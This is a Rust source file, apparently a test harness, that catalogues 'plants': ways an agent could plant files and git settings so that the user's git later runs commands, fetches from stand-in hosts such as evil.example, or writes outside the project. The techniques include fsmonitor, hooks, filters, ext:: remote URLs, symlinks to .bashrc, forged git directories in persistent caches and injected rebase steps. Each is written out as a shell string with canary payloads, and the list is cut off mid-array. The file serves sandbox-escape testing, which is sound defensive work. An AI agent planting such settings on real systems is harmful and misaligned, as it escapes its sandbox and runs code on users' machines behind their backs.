//! What an agent plants: kinds of files and settings that make the user's git run, contact or write something.
//!
//! In an attack `@C@` is a canary file of its own, `@G@` a git directory, `@M@` a way of writing a file, and `@N@` a number; a control takes
//! the first of each.

use crate::ground::Ground;

/// A kind of plant.
#[derive(Debug)]
pub(crate) struct Plant {
    /// What it is, with the finding's number if there is one.
    pub(crate) name: &'static str,
    /// Settings of the user that it needs: one of [`PROFILES`].
    pub(crate) profile: &'static str,
    /// What the agent does, in the project.
    pub(crate) attack: &'static str,
    /// The user's steps by which it fires in a control: a directory, and a step's name.
    pub(crate) fires: &'static [(&'static str, &'static str)],
    pub(crate) live: Live,
    /// It is accepted that it fires if the end of the session names this, before the user does anything.
    pub(crate) named: Option<&'static str>,
}

/// Whether a plant can fire here.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Live {
    Always,
    /// Where git-lfs is installed.
    WithLfs,
    /// Never, with this git.
    Not(&'static str),
}

impl Live {
    pub(crate) fn is_live(self, ground: &Ground) -> bool {
        match self {
            Self::Always => true,
            Self::WithLfs => ground.shell(std::path::Path::new("/"), "command -v git-lfs").status.success(),
            Self::Not(_) => false,
        }
    }

    pub(crate) fn reason(self) -> &'static str {
        match self {
            Self::Always => "it is live",
            Self::WithLfs => "git-lfs is not installed",
            Self::Not(why) => why,
        }
    }
}

/// What users set, by name: a script in the project. One of them for each sequence.
pub(crate) const PROFILES: &[(&str, &str)] = &[
    ("plain", ""),
    ("husky", "git config core.hooksPath .husky"),
    ("blank", "git config core.hooksPath 'my hooks'"),
    (
        "included",
        "printf '[core]\\n\\thooksPath = tools/\\\\\\nhooks\\n' > .git/more; git config include.path more",
    ),
    (
        "work_tree",
        "git config extensions.worktreeConfig true
         git config --worktree core.hooksPath \"~/$(realpath --relative-to=$HOME $PWD)/tools/hooks\"",
    ),
    ("global", "git config --global core.hooksPath tools/hooks"),
    (
        "programs",
        "git config core.fsmonitor 'sh tools/watch.sh'; git config filter.x.clean 'sh tools/x.sh'; git config filter.x.smudge 'sh tools/x.sh'
         git config diff.x.textconv 'sh tools/text.sh'; git config merge.x.driver 'sh tools/merge.sh'
         echo 'file filter=x diff=x merge=x' > .git/info/attributes",
    ),
    (
        "nested",
        "git -C nested config core.fsmonitor ./watch; git -C lib/dep config core.hooksPath hooks
         git -C wt config extensions.worktreeConfig true; git -C wt config --worktree core.fsmonitor 'sh watch'",
    ),
    ("caches", "git config core.untrackedCache true; git config core.splitIndex true; git config submodule.recurse true"),
];

/// Git directories of the user's.
pub(crate) const GIT_DIRECTORIES: &[&str] = &[
    ".git",
    "nested/.git",
    ".git/modules/dep",
    ".git/worktrees/wt",
    ".git/worktrees/wt/modules/dep",
    "mirror.git",
    ".git/worktrees/wt2",
];

/// Ways of writing a file: see `put`.
pub(crate) const METHODS: &[&str] = &[
    "direct", "move", "lock", "remove", "link", "append", "dd", "copied", "swap", "exchange", "proc", "inplace",
    "hard", "python",
];

/// Functions for attacks.
pub(crate) const PRELUDE: &str = r#"
export L=@LIVE@ T=${T:-/tmp}
# A cache of the project's sessions: it stays on the host, under the path that it has inside. A control has one at a path of the same form.
export K=${GOCACHE:-$CONTROL_CACHE}
test -n "$K" || { echo 'no cache'; exit 1; }
mkdir -p $T $K
cd "${PLACE:-$L/project}" || exit 1
# put METHOD FILE < CONTENT
put() {
    local new="put.$RANDOM" dir
    dir=$(dirname "$2")
    mkdir -p "$dir" 2> /dev/null
    case $1 in
        direct) cat > "$2" ;;
        move) cat > "$new"; mv -f "$new" "$2" ;;
        lock) cat > "$2.lock"; mv -f "$2.lock" "$2" ;;
        remove) rm -f "$2"; cat > "$2" ;;
        link) cat > "$new"; rm -f "$2"; ln "$new" "$2"; rm -f "$new" ;;
        append) cat >> "$2" ;;
        dd) dd of="$2" conv=notrunc,fsync status=none ;;
        copied) cat > "$T/$new"; cp -f "$T/$new" "$2" ;;
        swap) cp -a "$dir" "$dir.swap"; cat > "$dir.swap/${2##*/}"; mv "$dir" "$dir.old"; mv "$dir.swap" "$dir" ;;
        exchange) cat > "$new"; python3 -c "import ctypes, sys; ctypes.CDLL(None).renameat2(-100, sys.argv[1].encode(), -100, sys.argv[2].encode(), 2)" "$new" "$2" ;;
        proc) cat > "/proc/self/cwd/$2" ;;
        inplace) cat > "$new"; touch "$2"; sed -i -e "1{r $new" -e 'd}' "$2"; rm -f "$new" ;;
        hard) touch "$2"; ln "$2" "$new"; cat > "$new" ;;
        python) python3 -c "import os, sys
text = sys.stdin.buffer.read()
fd = os.open(sys.argv[1], os.O_RDWR | os.O_CREAT, 0o755)
os.ftruncate(fd, 0); os.write(fd, text); os.fchmod(fd, 0o755)" "$2" ;;
    esac
}
# program METHOD FILE CANARY: a program that touches its canary, executable if that can be had.
program() {
    printf '#!/bin/sh\ntouch %s\ncat 2> /dev/null\nexit 1\n' "$3" > $T/program; chmod +x $T/program
    put "$1" "$2" < $T/program; chmod +x "$2"
}
# conf GITDIR KEY VALUE METHOD
conf() {
    case $4 in
        direct) git config -f "$1/config" "$2" "$3" ;;
        lock) cp "$1/config" "$1/config.lock"; git config -f "$1/config.lock" "$2" "$3"; mv -f "$1/config.lock" "$1/config" ;;
        swap) git config -f "$1/config" extensions.worktreeConfig true; git config -f "$1/config.worktree" "$2" "$3" ;;
        proc) git config -f $T/more "$2" "$3"; put direct "$1/more" < $T/more; git config -f "$1/config" include.path more ;;
        hard) cp "$1/config" $T/more; git config -f $T/more "$2" "$3"; rm -f "$1/COMMIT_EDITMSG"; ln "$1/config" "$1/COMMIT_EDITMSG"; cat $T/more > "$1/COMMIT_EDITMSG" ;;
        *) cp "$1/config" $T/more; git config -f $T/more "$2" "$3"; put "$4" "$1/config" < $T/more ;;
    esac
}
# commit_with REF MODE PATH < CONTENT: a commit that has one file more, without a work tree.
commit_with() {
    local blob tree
    blob=$(git hash-object -w --stdin)
    tree=$(GIT_INDEX_FILE=$T/index.$RANDOM bash -c 'git read-tree HEAD; git update-index --add --cacheinfo "$1,$2,$3"; git write-tree' - "$2" "$blob" "$3")
    git update-ref "$1" "$(git commit-tree -p HEAD -m words "$tree")"
}
# Where a directory is on the host.
hostpath() {
    local at
    at=$(awk -v at="$1" '$5 == at { print $4 }' /proc/self/mountinfo | tail -1)
    echo "${at:-$1}"
}
# forge DIR CANARY ORDER: a git directory with hostile settings, made in an order of its own.
forge() {
    local part
    mkdir -p "$1"
    for part in $3; do
        case $part in
            head) echo 'ref: refs/heads/main' > "$1/HEAD" ;;
            objects) mkdir -p "$1/objects/info" "$1/objects/pack" ;;
            refs) mkdir -p "$1/refs/heads" ;;
            config) printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = "touch %s; false"\n[diff]\n\texternal = touch %s\n' "$2" "$2" > "$1/config" ;;
            hooks) mkdir -p "$1/hooks"; for hook in pre-commit post-checkout post-index-change reference-transaction; do program direct "$1/hooks/$hook" "$2"; done ;;
            index) cp .git/index "$1/index" ;;
            commondir) echo "$4" > "$1/commondir" ;;
            worktree) printf '[core]\n\tfsmonitor = "touch %s; false"\n' "$2" > "$1/config.worktree" ;;
        esac
    done
}
# A large file that is nowhere.
large() {
    printf 'version https://git-lfs.github.com/spec/v1\noid sha256:%064d\nsize 3\n' 9 | commit_with HEAD 100644 z.bin; git reset -q
}
gitlink() { git update-index --add --cacheinfo "160000,$(git rev-parse HEAD),$1"; }
"#;

const fn plant(name: &'static str, attack: &'static str, fires: &'static [(&'static str, &'static str)]) -> Plant {
    Plant { name, profile: "plain", attack, fires, live: Live::Always, named: None }
}

impl Plant {
    const fn with(self, profile: &'static str) -> Self {
        Self { profile, ..self }
    }

    const fn live(self, live: Live) -> Self {
        Self { live, ..self }
    }

    const fn named(self, named: &'static str) -> Self {
        Self { named: Some(named), ..self }
    }
}

/// A plant that is one setting.
macro_rules! setting {
    ($key:literal, $value:literal, $($step:literal)*) => {
        plant(
            concat!("setting ", $key),
            concat!("conf '@G@' '", $key, "' '", $value, "' @M@"),
            &[$((".", $step)),*],
        )
    };
    ($key:literal, $value:literal, $more:literal, $($step:literal)*) => {
        plant(
            concat!("setting ", $key),
            concat!("conf '@G@' '", $key, "' '", $value, "' @M@\n", $more),
            &[$((".", $step)),*],
        )
    };
}

pub(crate) static PLANTS: &[Plant] = &[
    setting!("core.fsmonitor", "touch @C@; false", "status"),
    setting!("core.sshCommand", "touch @C@; false", "fetch"),
    setting!("core.pager", "touch @C@; cat", "log"),
    setting!("pager.status", "touch @C@; cat", "status"),
    setting!("core.editor", "touch @C@; true", "commit_editor"),
    setting!("sequence.editor", "touch @C@; true", "rebase_i"),
    setting!("core.hooksPath", "evil hooks", "program direct \"evil hooks/pre-commit\" @C@", "commit"),
    setting!("core.hooksPath", ".git/../\"x y\"", "program direct '.git/../\"x y\"/post-checkout' @C@", "switch"),
    setting!("filter.evil.clean", "touch @C@; cat", "echo '* filter=evil' | put direct .gitattributes", "add"),
    setting!("filter.evil.smudge", "touch @C@; cat", "echo '* filter=evil' >> .git/info/attributes; echo '* filter=evil' >> .gitattributes", "switch"),
    setting!("filter.evil.process", "touch @C@; false", "echo '* filter=evil' >> .gitattributes", "add"),
    setting!("filter.tidy.clean", "touch @C@; cat", "echo 'file filter=tidy' >> .gitattributes", "add"),
    setting!("diff.evil.textconv", "touch @C@; cat", "echo '* diff=evil' >> .gitattributes; echo x >> file", "diff"),
    setting!("diff.words.textconv", "touch @C@; cat", "echo x >> words.txt", "diff"),
    setting!("diff.evil.command", "touch @C@", "echo '* diff=evil' >> .gitattributes; echo x >> file", "diff"),
    setting!("diff.external", "touch @C@", "echo x >> file", "diff"),
    setting!("merge.evil.driver", "touch @C@; false", "echo '* merge=evil' >> .gitattributes", "merge"),
    setting!("merge.evil.driver", "touch @C@", "echo '* merge=evil' >> .gitattributes; git config merge.default evil", "stash" "merge"),
    setting!("alias.st", "!touch @C@", "status"),
    setting!("gpg.program", "./sign", "program direct sign @C@; git config commit.gpgSign true", "commit"),
    setting!("gpg.ssh.program", "touch @C@; false", "git config commit.gpgSign true; git config gpg.format ssh; git config user.signingKey x", "commit")
        .live(Live::Not("git looks for the key first")),
    setting!("include.path", "../more", "printf '[core]\\n\\tfsmonitor = \"touch @C@; false\"\\n' > more", "status"),
    setting!("includeIf.gitdir:/.path", "../more", "printf '[core]\\n\\tfsmonitor = \"touch @C@; false\"\\n' > more", "status"),
    setting!("core.worktree", "../../outside", "checkout"),
    setting!("remote.origin.url", "http://127.0.0.1:@PORT@/leak", "fetch"),
    setting!("remote.origin.url", "git://127.0.0.1:@PORT@/leak", "fetch"),
    setting!("remote.evil.url", "ssh://evil.example/leak", "fetch"),
    setting!("remote.origin.pushurl", "evil.example:leak", "push"),
    setting!("remote.origin.uploadpack", "touch @C@; git-upload-pack", "git config remote.origin.url .", "fetch"),
    setting!("remote.origin.receivepack", "touch @C@; git-receive-pack", "git config remote.origin.url .", "push"),
    setting!("remote.origin.url", "ext::sh -c touch% @C@", "git config protocol.ext.allow always", "fetch"),
    setting!("remote.origin.vcs", "ext", "git config protocol.ext.allow always; git config remote.origin.url 'sh -c touch% @C@'", "fetch"),
    setting!("remote.origin.url", "ssh://x%40evil.example%2f@host.example/leak", "fetch"),
    setting!("remote.origin.url", "host.example:a@[evil.example]:leak", "fetch"),
    setting!("remote.origin.url", "ssh://host.example/a@[evil.example]:22/leak", "fetch"),
    setting!("remote.origin.pushurl", "ext::sh -c touch% @C@", "git config protocol.ext.allow always", "push"),
    setting!("url.ext::sh -c touch% @C@ .insteadOf", "git@host.example:", "git config protocol.ext.allow always", "fetch"),
    setting!("url.ssh://evil.example/.insteadOf", "git@host.example:", "fetch"),
    setting!("core.gitProxy", "touch @C@; false", "git config remote.g.url git://evil.invalid/x", "fetch")
        .live(Live::Not("a program's name with a blank is no program here")),
    setting!("core.gitProxy", "./proxy", "program direct proxy @C@; git config remote.g.url git://evil.invalid/x", "fetch"),
    setting!("branch.main.remote", "ssh://evil.example/leak", "git config branch.main.merge refs/heads/main", "fetch"),
    setting!("branch.main.pushRemote", "ssh://evil.example/leak", "push"),
    setting!("remote.pushDefault", "ssh://evil.example/leak", "push"),
    setting!("submodule.dep.update", "!touch @C@;", "git -C lib/dep checkout -q HEAD~1", "submodule_update"),
    setting!("submodule.dep.url", "ssh://evil.example/leak", "git config -f .gitmodules submodule.dep.url ssh://evil.example/leak
        git config -f .git/modules/dep/config remote.origin.url ssh://evil.example/leak", "submodule_update"),
    setting!("remote.origin.url", "ssh://git@host.example/x", "printf '[submodule \"dep\"]\\n\\tpath = lib/dep\\n\\turl = ../../evil.example/leak\\n' | put direct .gitmodules", "submodule_update"),
    setting!("core.alternateRefsCommand", "touch @C@; false", "echo $PWD/nested/.git/objects | put direct .git/objects/info/alternates", "fetch"),
    setting!("interactive.diffFilter", "touch @C@; cat", "git config color.ui always", "add_p"),
    setting!("merge.tool", "evil", "git config mergetool.evil.cmd 'touch @C@'", "mergetool"),
    setting!("diff.tool", "evil", "git config difftool.evil.cmd 'touch @C@'", "mergetool"),
    setting!("gc.recentObjectsHook", "touch @C@", "gc").live(Live::Not("git asks it only of unreachable objects that are about to expire")),
    setting!("tar.tgz.command", "touch @C@; cat", "archive"),
    setting!("uploadpack.packObjectsHook", "touch @C@", "git config remote.x.url .", "fetch")
        .live(Live::Not("git takes it only from the user's and the system's settings")),
    setting!("hook.evil.command", "touch @C@", "git config hook.evil.event pre-commit", "commit")
        .live(Live::Not("this git has no hooks in its settings")),
    setting!("credential.helper", "!touch @C@", "commit").live(Live::Not("nothing here asks for a password")),
    setting!("extensions.partialClone", "evil", "git config remote.evil.url ssh://evil.example/leak; git config remote.evil.promisor true
        git config core.repositoryformatversion 1
        git update-index --add --cacheinfo 100644,1234567812345678123456781234567812345678,missing", "diff" "checkout"),
    setting!("lfs.url", "http://127.0.0.1:@PORT@/leak", "large", "lfs_fetch").live(Live::WithLfs),
    setting!("lfs.customtransfer.x.path", "./transfer", "large; program direct transfer @C@; git config lfs.standalonetransferagent x", "lfs_fetch").live(Live::WithLfs),
    setting!("lfs.extension.x.smudge", "touch @C@", "git config lfs.extension.x.clean 'touch @C@'; git config lfs.extension.x.priority 0
        echo '*.txt filter=lfs' >> .gitattributes; echo x >> words.txt", "add").live(Live::WithLfs),

    plant("hooks", "for hook in pre-commit post-checkout post-index-change reference-transaction post-commit; do program @M@ @G@/hooks/$hook @C@; done",
        &[(".", "commit")]),
    plant("hooks: a directory that is moved in", "mkdir -p h; program direct h/pre-commit @C@; mv @G@/hooks @G@/h2; mv h @G@/hooks", &[(".", "commit")]),
    plant("hooks: a link to a directory", "mkdir -p h; program direct h/pre-commit @C@; mv @G@/hooks @G@/h2; ln -s $PWD/h @G@/hooks", &[(".", "commit")]),
    plant("j1: the message of a commit goes into the settings",
        "rm -f @G@/COMMIT_EDITMSG; ln -s config @G@/COMMIT_EDITMSG; printf '[core]\\n\\tfsmonitor = \"touch @C@; false\"\\n' | put @M@ @G@/MERGE_MSG
         mkdir -p lnk; ln -s config lnk/COMMIT_EDITMSG; mv -f lnk/COMMIT_EDITMSG @G@/COMMIT_EDITMSG",
        &[(".", "commit_editor"), (".", "status")]),
    plant("j1: the message of a commit goes into a hook",
        "rm -f @G@/COMMIT_EDITMSG; ln -s hooks/pre-commit @G@/COMMIT_EDITMSG; printf 'touch @C@\\n' | put @M@ @G@/MERGE_MSG",
        &[(".", "commit_editor"), (".", "commit")]),
    plant("j1: a message outside", "rm -f @G@/COMMIT_EDITMSG; ln -s $L/home/.bashrc @G@/COMMIT_EDITMSG", &[(".", "commit")]),
    plant("j1: the log of HEAD", "rm -f @G@/logs/HEAD; ln -s $L/home/.bashrc @G@/logs/HEAD", &[(".", "commit")]),
    plant("j1: the log of a branch", "rm -f .git/logs/refs/heads/main; ln -s $L/home/.bashrc .git/logs/refs/heads/main", &[(".", "commit")]),
    plant("j1: what was fetched", "rm -f @G@/FETCH_HEAD; ln -s $L/home/.bashrc @G@/FETCH_HEAD", &[(".", "fetch")]),
    plant("j1: the index", "ln -s $L/outside/index index; mv @G@/index $L/outside/index 2> /dev/null || mv @G@/index $T/i; mv -f index @G@/index", &[(".", "add")]),
    plant("j1: a link by any name",
        "for name in ORIG_HEAD MERGE_MSG SQUASH_MSG packed-refs index logs/HEAD COMMIT_EDITMSG TAG_EDITMSG FETCH_HEAD rebase-merge/done gc.log gc.pid info/refs \
            objects/info/packs description MERGE_HEAD AUTO_MERGE logs/refs/stash refs/stash ; do
            mkdir -p lnk; rm -f @G@/$name; ln -s $L/home/.bashrc @G@/$name; ln -s $L/home/.bashrc lnk/link; mv -f lnk/link @G@/$name
         done", &[(".", "fetch"), (".", "commit")]),
    plant("j1: directories that are links",
        "for name in logs refs objects/info rebase-merge rebase-apply sequencer worktrees/wt refs/heads logs/refs; do
            test -e @G@/$name && mv @G@/$name @G@/old$RANDOM; ln -s $L/outside @G@/$name; ln -s $L/outside link; mv -T link @G@/$name
         done", &[(".", "commit"), (".", "switch"), (".", "pick_abort")]),
    plant("j2: a directory that git empties is a link", "rm -rf @G@/sequencer; ln -s $L/outside/precious @G@/sequencer", &[(".", "pick_abort")]),
    plant("j2: a directory of rebase that git empties is a link", "rm -rf @G@/rebase-apply; ln -s $L/outside/precious @G@/rebase-apply", &[(".", "rebase_abort"), (".", "am_abort")]),
    plant("j2: a directory that git-lfs empties is a link", "rm -rf @G@/lfs; mkdir -p @G@/lfs; ln -s $L/outside/precious @G@/lfs/tmp; touch z.bin
         mkdir -p l/tmp2; ln -s $L/outside/precious l/tmp; mv @G@/lfs @G@/lfs2; mv l @G@/lfs", &[(".", "lfs"), (".", "add"), (".", "status")]).live(Live::WithLfs),
    plant("j3: the number of a step of a rebase",
        "echo refs/heads/main | put direct @G@/rebase-merge/head-name; echo 2 | put direct @G@/rebase-merge/end; echo '$(touch @C@)' | put @M@ @G@/rebase-merge/msgnum",
        &[(".", "prompt")]),
    plant("j3: the number of the last step of a rebase",
        "echo refs/heads/main | put direct @G@/rebase-merge/head-name; echo 2 | put direct @G@/rebase-merge/msgnum; echo '$(touch @C@)' | put @M@ @G@/rebase-merge/end",
        &[(".", "prompt")]),
    plant("j3: the number of a patch", "echo 2 | put direct @G@/rebase-apply/last; echo '`touch @C@`' | put @M@ @G@/rebase-apply/next; touch @G@/rebase-apply/applying",
        &[(".", "prompt")]),
    plant("j3: the number of the last patch", "echo 2 | put direct @G@/rebase-apply/next; echo '$(touch @C@)' | put @M@ @G@/rebase-apply/last; touch @G@/rebase-apply/rebasing",
        &[(".", "prompt")]),
    plant("j4: a submodule of a linked work tree", "conf .git/worktrees/wt/modules/dep core.fsmonitor 'touch @C@; false' @M@
         for hook in post-checkout post-index-change pre-commit; do program @M@ .git/worktrees/wt/modules/dep/hooks/$hook @C@; done",
        &[("wt", "status"), ("wt/lib/dep", "commit")]),
    plant("j4: the settings of a submodule of a linked work tree", "conf .git/worktrees/wt/modules/dep core.fsmonitor 'touch @C@; false' @M@", &[("wt", "status"), ("wt/lib/dep", "status")]),
    plant("j4: the settings of a submodule", "conf .git/modules/dep core.fsmonitor 'touch @C@; false' @M@", &[("lib/dep", "status")]),
    plant("j4: the settings of a repository in the project", "conf nested/.git core.fsmonitor 'touch @C@; false' @M@", &[("nested", "status")]),
    plant("j4: the settings of a bare repository", "conf mirror.git diff.external 'touch @C@' @M@", &[("mirror.git", "log"), ("mirror.git", "show"), ("mirror.git", "diff")]),
    plant("j5: a strategy of a cherry-pick",
        "git cherry-pick side; git checkout -q --ours .; git add -A; mkdir -p git-merge-x; program direct e.sh @C@
         printf 'pick %s side\\npick %s side\\n' $(git rev-parse --short side) $(git rev-parse --short side) | put direct @G@/sequencer/todo
         git rev-parse HEAD | put direct @G@/sequencer/head; printf '[options]\\n\\tstrategy = x/../e.sh\\n' | put @M@ @G@/sequencer/opts",
        &[(".", "pick_continue")]),
    plant("j5: a strategy of a rebase",
        "GIT_SEQUENCE_EDITOR='sed -i s/^pick/edit/' git rebase -i HEAD~1; mkdir -p git-merge-x; program direct e.sh @C@
         echo x/../e.sh | put @M@ @G@/rebase-merge/strategy; printf 'pick %s x\\n' $(git rev-parse topic) | put direct @G@/rebase-merge/git-rebase-todo",
        &[(".", "rebase_continue")]),
    plant("j6: .lfsconfig in a commit only",
        "printf '[lfs]\\n\\turl = http://127.0.0.1:@PORT@/leak\\n' | commit_with HEAD 100644 .lfsconfig; git reset -q; large", &[(".", "restore"), (".", "lfs_fetch")])
        .live(Live::WithLfs).named(".lfsconfig"),
    plant("j6: .lfsconfig in the index only",
        "large; git update-index --add --cacheinfo 100644,$(printf '[lfs]\\n\\turl = http://127.0.0.1:@PORT@/leak\\n' | git hash-object -w --stdin),.lfsconfig", &[(".", "restore"), (".", "lfs_fetch")])
        .live(Live::WithLfs).named(".lfsconfig"),
    plant("j7: the work tree of another repository", "mkdir -p .git/worktrees/ev; echo ref: refs/heads/main > .git/worktrees/ev/HEAD; echo ../.. > .git/worktrees/ev/commondir
         echo $L/elsewhere/othertree/.git | put @M@ .git/worktrees/ev/gitdir", &[(".", "worktree_repair")]),

    plant("a1: a directory called worktrees in a bare repository",
        "git init -q --bare foo.git; git --git-dir=foo.git config extensions.worktreeConfig true
         forge foo.git/a/worktrees/x @C@ 'head index worktree commondir' ../../..
         printf '[core]\\n\\tbare = false\\n' >> foo.git/a/worktrees/x/config.worktree
         mkdir sub@N@; echo \"gitdir: $PWD/foo.git/a/worktrees/x\" | put @M@ sub@N@/.git; gitlink sub@N@",
        &[("sub@N@", "status"), (".", "status")]),
    plant("a1: the form below the git directory",
        "git config extensions.worktreeConfig true; forge .git/worktrees/x @C@ 'head index commondir worktree' ../..
         mkdir sub@N@; echo \"gitdir: $PWD/.git/worktrees/x\" | put @M@ sub@N@/.git; gitlink sub@N@", &[("sub@N@", "status")]),
    plant("a1: below another name in the git directory",
        "git config extensions.worktreeConfig true; forge .git/foo.git/worktrees/x @C@ 'commondir worktree index head' ../../..
         mkdir sub@N@; echo \"gitdir: $PWD/.git/foo.git/worktrees/x\" | put @M@ sub@N@/.git; gitlink sub@N@", &[("sub@N@", "status")]),
    plant("a2: a git directory in the home of the session",
        "forge ~/g@N@ @C@ 'head objects refs config hooks index'
         mkdir sub@N@; echo \"gitdir: $(hostpath $HOME)/g@N@\" | put @M@ sub@N@/.git; gitlink sub@N@", &[("sub@N@", "status")]),
    plant("a2: a git directory in a cache of the session",
        "mkdir -p ~/.cache; forge ~/.cache/g@N@ @C@ 'config head objects refs'
         mkdir sub@N@; echo \"gitdir: $(hostpath $HOME)/.cache/g@N@\" | put @M@ sub@N@/.git; gitlink sub@N@", &[("sub@N@", "status")]),
    plant("a2: a git directory among temporary files",
        "forge $T/g@N@ @C@ 'head objects refs config'
         mkdir sub@N@; echo \"gitdir: $(hostpath $T)/g@N@\" | put @M@ sub@N@/.git", &[("sub@N@", "status")]),
    plant("a2: the git directory of a submodule is another",
        "forge ~/g@N@ @C@ 'head objects refs config'; echo \"gitdir: $(hostpath $HOME)/g@N@\" | put @M@ lib/dep/.git", &[("lib/dep", "status"), (".", "status")]),
    plant("a2: the common directory of a work tree is another",
        "forge ~/g@N@ @C@ 'head objects refs config'; echo \"$(hostpath $HOME)/g@N@\" | put @M@ .git/worktrees/wt/commondir", &[("wt", "status")]),
    plant("a2: the directory of a remote in the home of the session has hooks",
        "git init -q --bare ~/r@N@.git; for hook in pre-receive update post-receive post-update; do program direct ~/r@N@.git/hooks/$hook @C@; done
         git config remote.origin.url \"$(hostpath $HOME)/r@N@.git\"", &[(".", "push")]),
    plant("a2: a new remote in a cache has hooks, and is where branches are pushed to",
        "git init -q --bare ~/.cache/r@N@.git; for hook in pre-receive update post-receive; do program direct ~/.cache/r@N@.git/hooks/$hook @C@; done
         git config remote.r@N@.url \"file://$(hostpath $HOME)/.cache/r@N@.git\"; git config remote.pushDefault r@N@", &[(".", "push")]),
    plant("a2: a git directory in a cache that stays",
        "forge $K/g@N@ @C@ 'head objects refs config hooks index'
         mkdir sub@N@; echo \"gitdir: $K/g@N@\" | put @M@ sub@N@/.git; gitlink sub@N@", &[("sub@N@", "status"), (".", "status")]),
    plant("a2: a git directory in a cache that stays, made before it is named",
        "mkdir $K/w@N@; git init -q $K/w@N@; git -C $K/w@N@ config core.fsmonitor 'touch @C@; false'
         mkdir sub@N@; echo \"gitdir: $(realpath --relative-to=sub@N@ $K)/w@N@/.git\" | put @M@ sub@N@/.git", &[("sub@N@", "status")]),
    plant("a2: the git directory of a submodule is in a cache that stays",
        "forge $K/g@N@ @C@ 'head objects refs config index'; echo \"gitdir: $K/g@N@\" | put @M@ lib/dep/.git", &[("lib/dep", "status"), (".", "status")]),
    plant("a2: the common directory of a work tree is in a cache that stays",
        "forge $K/g@N@ @C@ 'head objects refs config'; echo $K/g@N@ | put @M@ .git/worktrees/wt/commondir", &[("wt", "status")]),
    plant("a2: a remote in a cache that stays has hooks",
        "git init -q --bare $K/r@N@.git; for hook in pre-receive update post-receive post-update; do program direct $K/r@N@.git/hooks/$hook @C@; done
         git config remote.origin.url $K/r@N@.git", &[(".", "push")]),
    plant("a2: a new remote in a cache that stays has hooks, and is where branches are pushed to",
        "git init -q --bare $K/r@N@.git; for hook in pre-receive update post-receive; do program direct $K/r@N@.git/hooks/$hook @C@; done
         git config remote.r@N@.url \"file://$K/r@N@.git\"; git config remote.pushDefault r@N@", &[(".", "push")]),
    plant("a2: a branch is pushed to a path in a cache that stays",
        "git init -q --bare $K/r@N@.git; for hook in pre-receive update post-receive; do program direct $K/r@N@.git/hooks/$hook @C@; done
         git config branch.main.remote \"src/../$(realpath --relative-to=. $K)/r@N@.git\"", &[(".", "push")]),
    plant("a5: what is missing is served by a program",
        "git config remote.evil.url .; git config remote.evil.promisor true; git config remote.evil.uploadpack 'touch @C@; git-upload-pack'
         git config extensions.partialClone evil; git config core.repositoryformatversion 1
         git update-index --add --cacheinfo 100644,1234567812345678123456781234567812345678,missing", &[(".", "diff"), (".", "checkout")]),
    plant("a5: a new repository fetches what is missing",
        "git init -q new@N@; cd new@N@; git config remote.evil.url http://127.0.0.1:@PORT@/leak; git config remote.evil.promisor true
         git config extensions.partialClone evil; git config core.repositoryformatversion 1
         git update-index --add --cacheinfo 100644,1234567812345678123456781234567812345678,missing", &[("new@N@", "diff"), ("new@N@", "checkout")]),
    plant("a9: the work tree of a submodule", "conf .git/modules/dep core.worktree ../../../../outside @M@", &[("lib/dep", "checkout")]),
    plant("a10: a step of a rebase runs a command",
        "GIT_SEQUENCE_EDITOR='sed -i s/^pick/edit/' git rebase -i HEAD~1
         echo 'exec touch @C@' | put @M@ @G@/rebase-merge/git-rebase-todo", &[(".", "rebase_continue")]),
    plant("a10: a step of a rebase that the agent made up",
        "git rev-parse HEAD | put direct @G@/rebase-merge/orig-head; git rev-parse HEAD | put direct @G@/rebase-merge/onto; echo refs/heads/main | put direct @G@/rebase-merge/head-name
         touch @G@/rebase-merge/interactive; echo 1 | put direct @G@/rebase-merge/msgnum; echo 1 | put direct @G@/rebase-merge/end; : | put direct @G@/rebase-merge/done
         echo 'x touch @C@' | put @M@ @G@/rebase-merge/git-rebase-todo", &[(".", "rebase_continue")]),
    plant("a10: the sequencer of a cherry-pick runs a command",
        "git cherry-pick side; git rev-parse HEAD | put direct @G@/sequencer/head; printf 'pick %s x\\nexec touch @C@\\n' $(git rev-parse side) | put @M@ @G@/sequencer/todo", &[(".", "pick_continue")])
        .live(Live::Not("git refuses a step of another kind in a cherry-pick")),

    plant("a4: hooks below .husky", "program @M@ .husky/pre-commit @C@", &[(".", "commit")]).with("husky"),
    plant("a4: new hooks below .husky", "program @M@ .husky/post-commit @C@", &[(".", "commit")]).with("husky"),
    plant("a4: .husky is another directory", "mkdir h; program direct h/pre-commit @C@; mv .husky old; mv h .husky", &[(".", "commit")]).with("husky"),
    plant("a4: .husky becomes a link", "mkdir h; program direct h/pre-commit @C@; mv .husky old; ln -s h .husky", &[(".", "commit")]).with("husky"),
    plant("a4: hooks in a directory whose name has a blank", "program @M@ 'my hooks/pre-commit' @C@", &[(".", "commit")]).with("blank"),
    plant("a4: hooks by an included file with a continued line", "program @M@ tools/hooks/pre-commit @C@", &[(".", "commit")]).with("included"),
    plant("a4: hooks by a path from the home, in config.worktree", "program @M@ tools/hooks/pre-commit @C@", &[(".", "commit")]).with("work_tree"),
    plant("a4: hooks by the user's own settings", "program @M@ tools/hooks/pre-commit @C@", &[(".", "commit")]).with("global"),
    plant("a4: hooks by the user's own settings, in a work tree", "program @M@ wt/tools/hooks/pre-commit @C@", &[("wt", "commit")]).with("global"),
    plant("a4: hooks by the user's own settings, in a new repository", "git init -q new@N@; program @M@ new@N@/tools/hooks/pre-commit @C@", &[("new@N@", "commit")]).with("global"),
    plant("a4: the argument of a shell monitors files", "program @M@ tools/watch.sh @C@", &[(".", "status")]).with("programs"),
    plant("a4: the argument of a shell filters", "program @M@ tools/x.sh @C@; touch file; echo x >> file", &[(".", "add")]).with("programs"),
    plant("a4: the argument of a shell converts to text", "program @M@ tools/text.sh @C@; echo x >> file", &[(".", "diff")]).with("programs"),
    plant("a4: the argument of a shell merges", "program @M@ tools/merge.sh @C@", &[(".", "merge")]).with("programs"),
    plant("a4: the directory of programs is another", "cp -r tools t2; program direct t2/x.sh @C@; program direct t2/watch.sh @C@; mv tools t3; mv t2 tools", &[(".", "status"), (".", "add")]).with("programs"),
    plant("a4: the monitor of a linked work tree", "program @M@ wt/tools/watch.sh @C@", &[("wt", "status")]).with("programs"),
    plant("a4: the monitor of a repository in the project", "program @M@ nested/watch @C@", &[("nested", "status")]).with("nested"),
